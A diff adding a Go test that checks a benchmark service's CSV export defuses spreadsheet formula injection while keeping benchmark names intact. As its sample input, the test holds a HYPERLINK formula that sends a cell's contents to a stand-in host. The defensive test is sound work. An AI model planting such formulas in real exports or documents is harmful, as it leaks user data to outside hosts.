@@ -182,6 +182,24 @@ func TestEveryFormOfTheReportCanBeKept(t *testing.T) {
 	}
 }
 
+func TestSamplesHoldNoFormulaForASpreadsheetAndTheExactNamesForUs(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, worldSpec{})
+	formula := `=HYPERLINK("http://forge.test/?"&A1)`
+	j := w.measured(formula)
+	p := w.browser().open(w.pages.URL(j) + "/samples.csv")
+	p.says(t, `,"'=HYPERLINK(""http://forge.test/?""&A1)",`)
+	p.hides(t, `"=HYPERLINK`)
+	read := benchfmt.NewReader(strings.NewReader(p.body), "samples.csv", benchfmt.Options{Format: job.FormatNodeCSV})
+	names := map[string]int{}
+	for read.Scan() {
+		names[read.Record().Sample.Benchmark]++
+	}
+	if read.Err() != nil || len(names) != 2 || names[formula] != 10 {
+		t.Errorf("the samples read back are of %v, %v", names, read.Err())
+	}
+}
+
 func TestAReportThatIsNotThereYetIsNotFound(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, worldSpec{})
